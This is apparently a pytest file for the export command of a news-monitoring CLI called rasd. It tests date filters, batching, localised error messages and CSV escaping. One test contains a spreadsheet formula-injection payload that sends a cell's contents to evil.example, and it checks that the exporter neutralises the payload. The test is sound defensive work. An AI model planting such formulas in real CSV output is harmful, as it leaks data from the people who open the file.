"""`rasd export`: every article with its verdict, regions and syndicated story, as CSV or JSON lines."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from rasd.storage import Store, export_records
from tests.conftest import run_rasd, write_config
from tests.test_browse import COPY_URL, _store
from tests.test_search import STORIES


def test_export_groups_copies_and_filters_by_day(tmp_path: Path) -> None:
    config = write_config(tmp_path, "")
    ids = _store(tmp_path / "rasd.db")

    lines = run_rasd("--config", str(config), "export", "--since", "2025-09-04", "--format", "jsonl", cwd=tmp_path)
    assert lines.returncode == 0, lines.stderr
    records = [json.loads(line) for line in lines.stdout.splitlines()]
    assert "5 articles exported" in lines.stderr
    assert STORIES[0][2] not in [r["title"] for r in records if r["is_original"]]  # published 3 September
    copy = next(r for r in records if r["url"] == COPY_URL)
    assert copy["story_id"] == ids[STORIES[0][2]] and copy["is_original"] is False
    assert copy["story_sources"] == ["Tiznit Info", "Fes Presse"] and copy["story_articles"] == 2
    assert copy["regions"] == ["MA-09"] and copy["sse"] is True and copy["published_at"] == "2025-09-04T00:00:00Z"
    assert "text" not in copy

    out = tmp_path / "all.csv"
    table = run_rasd(
        "--config", str(config), "export", "--until", "2025-09-10", "--text", "--output", str(out), cwd=tmp_path
    )
    assert table.returncode == 0, table.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [row["id"] for row in rows] == [str(ids[STORIES[n][2]]) for n in (0, 1, 2)] + [str(ids["copy"])]
    assert rows[-1]["story_sources"] == "Tiznit Info | Fes Presse" and rows[0]["text"] == STORIES[0][3]
    # the Arabic slug readable, as `rasd search` prints it (stored percent-encoded: ARABIC_SLUG)
    assert rows[0]["url"] == "https://tiznit.example/تعاونية-نسائية/" != STORIES[0][0]
    found = run_rasd("--config", str(config), "search", "تعاونية", "--format", "csv", cwd=tmp_path)
    searched = {row["id"]: row["url"] for row in csv.DictReader(io.StringIO(found.stdout))}
    assert searched[rows[0]["id"]] == rows[0]["url"]


def test_export_streams_in_batches(tmp_path: Path, monkeypatch) -> None:
    """More articles than one batch: each exported once, in id order."""
    import rasd.storage.export as export

    _store(tmp_path / "rasd.db")
    monkeypatch.setattr(export, "BATCH", 2)
    store = Store(f"sqlite:///{tmp_path / 'rasd.db'}")
    assert [record["id"] for record in export_records(store)] == [1, 2, 3, 4, 5, 6]


def test_a_file_in_a_missing_folder_is_refused_in_one_line_before_any_work(tmp_path: Path) -> None:
    """export, report and classify --output into a folder that does not exist: one line naming it, exit 1,
    no traceback and no file (the newcomer's FileNotFoundError)."""
    config = write_config(tmp_path, "")
    _store(tmp_path / "rasd.db")
    (tmp_path / "in.jsonl").write_text("", encoding="utf-8")
    missing = tmp_path / "nowhere"
    for args in (
        ["export", "--output", str(missing / "x.csv")],
        ["report", "--month", "2025-09", "--output", str(missing / "r.html")],
        ["classify", "--input", "in.jsonl", "--output", str(missing / "c.jsonl")],
    ):
        result = run_rasd("--config", str(config), *args, cwd=tmp_path)
        assert result.returncode == 1, result.stderr
        assert result.stderr == (
            f"rasd: --output: the folder {missing} does not exist: create it, or name a file in another one\n"
        )
    assert not missing.exists()


def test_export_speaks_the_readers_language(tmp_path: Path) -> None:
    """A French or Arabic reader's export says its count and refuses a missing folder in their words (both
    were English whatever `language` said)."""
    config = write_config(tmp_path, "")
    _store(tmp_path / "rasd.db")
    missing = tmp_path / "nowhere"
    french = {"RASD_LANG": "fr"}
    counted = run_rasd("--config", str(config), "export", "--output", str(tmp_path / "x.csv"), cwd=tmp_path, env=french)
    assert counted.returncode == 0, counted.stderr
    assert counted.stderr == "6 articles exportés\n"
    refused = run_rasd("--config", str(config), "export", "--output", str(missing / "x.csv"), cwd=tmp_path, env=french)
    assert refused.returncode == 1
    assert refused.stderr == (
        f"rasd : --output : le dossier {missing} n’existe pas : créez-le, ou nommez un fichier dans un autre dossier\n"
    )
    arabic = run_rasd("--config", str(config), "export", "--since", "2025-09-04", cwd=tmp_path, env={"RASD_LANG": "ar"})
    assert arabic.stderr.strip().endswith("صُدِّرت 5 مقالات")
    assert not missing.exists()


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
    """Titles and texts come from any site. A CSV cell starting with =, +, -, @ (or tab, CR) is a formula in
    the researcher's Excel or LibreOffice (`=HYPERLINK("…?"&A1, …)` sends another cell to the page's
    address): OWASP's advice, a leading `'` (shown as nothing, it marks text) and every text cell quoted (a
    French Excel splits on `;`). A number stays a number, negative too; Arabic text is written as it is."""
    from rasd.monitor.records import write_records

    attack = '=HYPERLINK("http://evil.example/?"&A1,"Lire la suite")'
    records = [
        {"title": attack, "score": -0.5, "text": "تعاونية نسائية بتيزنيت", "reasons": ["+1 cmd", "@SUM(A1)"]},
        {"title": "Coopératives ;=1+1", "score": 0.75, "text": "-2+3", "reasons": ["\t=1+1"]},
    ]
    sink = io.StringIO()
    assert write_records(records, "csv", sink, ["title", "score", "text", "reasons"]) == 2
    rows = list(csv.DictReader(io.StringIO(sink.getvalue())))
    assert rows[0] == {
        "title": "'" + attack,
        "score": "-0.5",
        "text": "تعاونية نسائية بتيزنيت",
        "reasons": "'+1 cmd | @SUM(A1)",
    }
    assert rows[1] == {"title": "Coopératives ;=1+1", "score": "0.75", "text": "'-2+3", "reasons": "'\t=1+1"}
    # read as a French spreadsheet does (split on ";", quotes honoured): no cell starts a formula
    for line in csv.reader(io.StringIO(sink.getvalue()), delimiter=";"):
        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@"))], line
